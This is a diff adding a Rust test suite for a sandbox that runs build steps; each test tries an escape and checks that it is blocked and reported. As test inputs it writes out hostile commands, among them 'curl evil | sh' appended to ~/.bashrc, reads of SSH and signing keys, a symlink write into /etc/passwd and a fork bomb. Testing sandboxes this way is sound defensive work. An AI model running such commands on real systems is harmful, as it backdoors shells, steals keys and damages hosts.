@@ -1,0 +1,378 @@
+//! The hostile suite: each test is a build step trying one way out of the
+//! jail. A case passes only when the effect did not happen AND the verdict is
+//! exit 4 naming the rule — or, for the few attempts that cannot be observed,
+//! when the effect did not happen and SECURITY.md says why (noted per test).
+
+mod common;
+use common::*;
+use std::io::Read;
+use std::time::Duration;
+
+// ---- network -------------------------------------------------------------
+
+#[test]
+fn egress_to_a_host_listener_is_blocked_and_reported() {
+    let e = env();
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    l.set_nonblocking(true).unwrap();
+    let port = l.local_addr().unwrap().port().to_string();
+    let o = e.attack(&["connect-ip", "127.0.0.1", &port]);
+    o.assert_violation("network.none");
+    assert!(!o.stdout.contains("ESCAPED"), "{}", o.stdout);
+    assert!(l.accept().is_err(), "the listener on host loopback was reached");
+}
+
+#[test]
+fn dns_lookup_is_blocked_and_reported() {
+    let e = env();
+    e.attack(&["dns"]).assert_violation("network.none");
+}
+
+#[test]
+fn getent_hosts_through_libc_is_reported() {
+    let e = env();
+    let o = e.run("default", &["getent", "ahosts", "example.com"]);
+    assert_ne!(o.code, 0);
+    // glibc asks the resolver over an AF_INET (or netlink) socket: both are network.none
+    o.assert_violation("network.none");
+}
+
+#[test]
+fn raw_socket_is_blocked_and_reported() {
+    env().attack(&["raw"]).assert_violation("network.none");
+}
+
+#[test]
+fn packet_socket_is_blocked_and_reported() {
+    env().attack(&["packet"]).assert_violation("network.none");
+}
+
+#[test]
+fn netlink_socket_is_blocked_and_reported() {
+    env().attack(&["netlink"]).assert_violation("network.none");
+}
+
+#[test]
+fn abstract_unix_socket_of_the_host_is_unreachable_and_reported() {
+    use std::os::linux::net::SocketAddrExt;
+    let e = env();
+    let name = format!("orchestra-test-{}", std::process::id());
+    let addr = std::os::unix::net::SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
+    let l = std::os::unix::net::UnixListener::bind_addr(&addr).unwrap();
+    l.set_nonblocking(true).unwrap();
+    let o = e.attack(&["abstract", &name]);
+    o.assert_violation("network.abstract_unix");
+    assert!(l.accept().is_err(), "the host's abstract socket was reached");
+}
+
+// ---- filesystem ----------------------------------------------------------
+
+#[test]
+fn writing_a_home_dotfile_is_blocked_and_reported() {
+    let e = env();
+    let before = std::fs::read(e.home.join(".bashrc")).unwrap();
+    let o = e.sh("default", "echo 'curl evil | sh' >> ~/.bashrc");
+    o.assert_violation("fs.write");
+    assert_eq!(std::fs::read(e.home.join(".bashrc")).unwrap(), before);
+}
+
+#[test]
+fn writing_etc_is_blocked_and_reported() {
+    let e = env();
+    let o = e.sh("default", "echo pwned > /etc/orchestra-test-file");
+    o.assert_violation("fs.write");
+    assert!(!std::path::Path::new("/etc/orchestra-test-file").exists());
+}
+
+#[test]
+fn writing_the_hosts_tmp_under_strict_is_blocked_and_reported() {
+    let e = env();
+    let marker = format!("/tmp/orchestra-strict-{}", std::process::id());
+    let o = e.sh("strict", &format!("echo x > {marker}"));
+    o.assert_violation("fs.write");
+    assert!(!std::path::Path::new(&marker).exists());
+}
+
+#[test]
+fn default_tmp_is_private_and_never_reaches_the_host() {
+    // Not a violation by design: /tmp is a private tmpfs (SECURITY.md).
+    let e = env();
+    let marker = format!("/tmp/orchestra-private-{}", std::process::id());
+    let o = e.sh("default", &format!("echo x > {marker} && cat {marker}"));
+    o.assert_ok();
+    assert!(!std::path::Path::new(&marker).exists());
+}
+
+#[test]
+fn reading_the_ssh_key_canary_is_reported_and_leaks_nothing() {
+    let e = env();
+    let o = e.sh("default", "cat ~/.ssh/id_rsa; echo done");
+    o.assert_violation("fs.hidden");
+    assert!(!o.all_output().contains(SSH_CANARY));
+}
+
+#[test]
+fn reading_the_audit_signing_key_is_reported_and_leaks_nothing() {
+    let e = env();
+    let o = e.sh("default", &format!("cat {}", e.key.display()));
+    o.assert_violation("fs.hidden");
+    assert!(!o.all_output().contains(KEY_CANARY));
+}
+
+#[test]
+fn writing_the_audit_log_in_the_workspace_is_blocked_and_reported() {
+    let e = env();
+    let o = e.sh("default", "echo forged >> .orchestra/audit/segment");
+    o.assert_violation("fs.write");
+    assert!(!e.ws.join(".orchestra/audit/segment").exists());
+}
+
+#[test]
+fn rewriting_a_policy_kept_in_dot_orchestra_is_blocked_and_reported() {
+    let e = env();
+    std::fs::write(e.ws.join(".orchestra/policy.yaml"), "version: 1\n").unwrap();
+    let o = e.sh("default", "echo 'network: {mode: host}' > .orchestra/policy.yaml");
+    o.assert_violation("fs.write");
+    assert_eq!(std::fs::read_to_string(e.ws.join(".orchestra/policy.yaml")).unwrap(), "version: 1\n");
+}
+
+#[test]
+fn symlink_escape_from_the_workspace_is_blocked_and_reported() {
+    let e = env();
+    let before = std::fs::read("/etc/passwd").unwrap();
+    let o = e.sh("default", "ln -s /etc/passwd link && echo 'evil::0:0::/:/bin/sh' > link");
+    o.assert_violation("fs.write");
+    assert_eq!(std::fs::read("/etc/passwd").unwrap(), before);
+}
+
+#[test]
+fn hardlink_escape_from_the_workspace_is_blocked_and_reported() {
+    let e = env();
+    let o = e.sh("default", "ln /etc/passwd hl");
+    o.assert_violation("fs.hardlink");
+    assert!(!e.ws.join("hl").exists());
+}
+
+#[test]
+fn proc_sys_write_is_blocked_and_reported() {
+    let e = env();
+    let before = std::fs::read_to_string("/proc/sys/kernel/panic").unwrap();
+    let o = e.sh("default", "echo 42 > /proc/sys/kernel/panic");
+    o.assert_violation("fs.write");
+    assert_eq!(std::fs::read_to_string("/proc/sys/kernel/panic").unwrap(), before);
+}
+
+#[test]
+fn cgroup_write_is_blocked_and_reported() {
+    let e = env();
+    let o = e.sh("default", "echo $$ > /sys/fs/cgroup/cgroup.procs");
+    o.assert_violation("fs.write");
+}
+
+#[test]
+fn device_node_creation_is_blocked_and_reported() {
+    let e = env();
+    let o = e.attack(&["mknod", "mem"]);
+    o.assert_violation("syscall.device_nodes");
+    assert!(!e.ws.join("mem").exists());
+}
+
+#[test]
+fn setuid_binary_exec_is_blocked_and_reported() {
+    let e = env();
+    let o = e.run("default", &["/usr/bin/su", "-c", "id"]);
+    o.assert_violation("exec.setuid");
+}
+
+// ---- processes and kernel interfaces ------------------------------------
+
+#[test]
+fn ptrace_is_blocked_and_reported() {
+    env().attack(&["ptrace"]).assert_violation("syscall.ptrace");
+}
+
+#[test]
+fn mount_is_blocked_and_reported() {
+    env().attack(&["mount"]).assert_violation("syscall.mount");
+}
+
+#[test]
+fn chroot_is_blocked_and_reported() {
+    env().attack(&["chroot"]).assert_violation("syscall.mount");
+}
+
+#[test]
+fn unshare_is_blocked_and_reported() {
+    env().attack(&["unshare"]).assert_violation("syscall.namespaces");
+}
+
+#[test]
+fn setns_is_blocked_and_reported() {
+    env().attack(&["setns"]).assert_violation("syscall.namespaces");
+}
+
+#[test]
+fn clone_into_a_new_namespace_is_blocked_and_reported() {
+    env().attack(&["clone-ns"]).assert_violation("syscall.namespaces");
+}
+
+#[test]
+fn io_uring_is_blocked_and_reported() {
+    env().attack(&["io_uring"]).assert_violation("syscall.io_uring");
+}
+
+#[test]
+fn bpf_is_blocked_and_reported() {
+    env().attack(&["bpf"]).assert_violation("syscall.bpf");
+}
+
+#[test]
+fn keyring_is_blocked_and_reported() {
+    env().attack(&["keyctl"]).assert_violation("syscall.keyring");
+}
+
+#[test]
+fn userfaultfd_is_blocked_and_reported() {
+    env().attack(&["userfaultfd"]).assert_violation("syscall.userfaultfd");
+}
+
+#[test]
+fn perf_event_open_is_blocked_and_reported() {
+    env().attack(&["perf"]).assert_violation("syscall.perf");
+}
+
+#[test]
+fn terminal_injection_is_blocked_and_reported() {
+    env().attack(&["tiocsti"]).assert_violation("syscall.tty_injection");
+}
+
+#[test]
+fn x32_syscalls_kill_the_task_and_are_reported() {
+    let o = env().attack(&["x32"]);
+    o.assert_violation("seccomp.abi");
+    assert!(!o.stdout.contains("ESCAPED"));
+}
+
+#[test]
+fn the_jail_init_cannot_be_killed_or_traced() {
+    // Blocked by landlock signal scoping / pid-1 protection; not reported (SECURITY.md).
+    let e = env();
+    let o = e.run("default", &["./attack", "kill-init"]);
+    assert!(o.stdout.contains("blocked kill pid 1"), "{}", o.stdout);
+    assert_eq!(o.code, 0, "{}", o.stderr);
+    env().attack(&["ptrace-init"]).assert_violation("syscall.ptrace");
+}
+
+// ---- secrets and descriptors ---------------------------------------------
+
+#[test]
+fn the_orchestrators_environment_never_reaches_the_task() {
+    // Nothing to observe: the variable does not exist in the task (SECURITY.md).
+    let e = env();
+    let o = e.sh("default", "env; cat /proc/1/environ 2>&1; cat /proc/$$/environ | tr '\\0' '\\n'");
+    assert!(!o.all_output().contains(ENV_CANARY), "{}", o.stdout);
+    assert!(!o.all_output().contains("ORCHESTRA_AUDIT_KEY"), "{}", o.stdout);
+}
+
+#[test]
+fn descriptors_of_the_parent_do_not_leak_into_the_task() {
+    let e = env();
+    let secret = e.root.join("secret-fd");
+    std::fs::write(&secret, SSH_CANARY).unwrap();
+    let mut c = std::process::Command::new("/bin/sh");
+    let cmdline = format!(
+        "exec 7<{} 8>{}/fd8; exec {} exec --report {}/report.json -- ./attack fds",
+        secret.display(),
+        e.root.display(),
+        orchestra().display(),
+        e.root.display()
+    );
+    c.arg("-c").arg(cmdline).current_dir(&e.ws).env("HOME", &e.home);
+    let o = e.run_cmd(c);
+    assert!(o.stdout.contains("no leaked fds"), "{}", o.stdout);
+    o.assert_ok();
+}
+
+// ---- resources -------------------------------------------------------------
+
+#[test]
+fn fork_bomb_is_stopped_and_reported() {
+    let e = env();
+    let p = e.policy("pids", "limits:\n  pids: 64\ntimeouts:\n  wall: 20s\n");
+    let o = e.run(&p, &["./attack", "forkbomb"]);
+    o.assert_violation("limits.pids");
+    assert!(!o.stdout.contains("ESCAPED"));
+    std::thread::sleep(Duration::from_millis(200));
+    assert!(processes_with(&format!("{}/attack", e.ws.display())).is_empty());
+}
+
+#[test]
+fn memory_hog_is_stopped_and_reported() {
+    let e = env();
+    let p = e.policy("mem", "limits:\n  memory: 128MiB\n");
+    let o = e.run(&p, &["./attack", "memhog", "2048"]);
+    o.assert_violation("limits.memory");
+    assert!(!o.stdout.contains("ESCAPED"));
+}
+
+#[test]
+fn output_flood_is_cut_and_reported() {
+    let e = env();
+    let p = e.policy("out", "limits:\n  output: 1MiB\n");
+    let o = e.run(&p, &["yes", "flood"]);
+    o.assert_violation("limits.output");
+    assert!(o.stdout.len() <= 1 << 20, "relayed {} bytes", o.stdout.len());
+}
+
+#[test]
+fn disk_filler_is_stopped_and_reported() {
+    let e = env();
+    let p = e.policy("disk", "limits:\n  disk: 8MiB\n");
+    let o = e.sh(&p, "head -c 100000000 /dev/zero > big");
+    o.assert_violation("limits.disk");
+    let size = std::fs::metadata(e.ws.join("big")).map(|m| m.len()).unwrap_or(0);
+    assert!(size <= 8 << 20, "wrote {size} bytes");
+}
+
+#[test]
+fn a_daemon_does_not_outlive_the_timeout() {
+    let e = env();
+    let script = "(setsid sh -c 'while :; do echo tick >> daemon.log; sleep 0.05; done' &); sleep 60";
+    let o = e.run_cmd(e.cmd("default", &["--timeout", "1s"], &["/bin/sh", "-c", script]));
+    assert_eq!(o.code, 3, "{}", o.stderr);
+    assert_eq!(o.report["cause"], "timeout");
+    let len = |p: &std::path::Path| std::fs::metadata(p).map(|m| m.len()).unwrap_or(0);
+    let before = len(&e.ws.join("daemon.log"));
+    assert!(before > 0, "the daemon never ran");
+    std::thread::sleep(Duration::from_millis(400));
+    assert_eq!(len(&e.ws.join("daemon.log")), before, "the daemon survived the task");
+}
+
+#[test]
+fn a_daemon_does_not_outlive_a_task_that_exits() {
+    let e = env();
+    let script = "(setsid sh -c 'while :; do echo tick >> daemon.log; sleep 0.05; done' &); sleep 0.3; exit 0";
+    let o = e.sh("default", script);
+    o.assert_ok();
+    let len = |p: &std::path::Path| std::fs::metadata(p).map(|m| m.len()).unwrap_or(0);
+    let before = len(&e.ws.join("daemon.log"));
+    std::thread::sleep(Duration::from_millis(400));
+    assert_eq!(len(&e.ws.join("daemon.log")), before, "the daemon survived the task");
+}
+
+#[test]
+fn stdin_is_passed_through() {
+    let e = env();
+    let mut c = e.cmd("default", &[], &["/bin/cat"]);
+    c.stdin(std::process::Stdio::piped()).stdout(std::process::Stdio::piped());
+    let mut child = c.spawn().unwrap();
+    {
+        use std::io::Write;
+        let mut stdin = child.stdin.take().unwrap();
+        stdin.write_all(b"through the jail\n").unwrap();
+    }
+    let mut s = String::new();
+    child.stdout.take().unwrap().read_to_string(&mut s).unwrap();
+    assert!(child.wait().unwrap().success());
+    assert_eq!(s, "through the jail\n");
+}
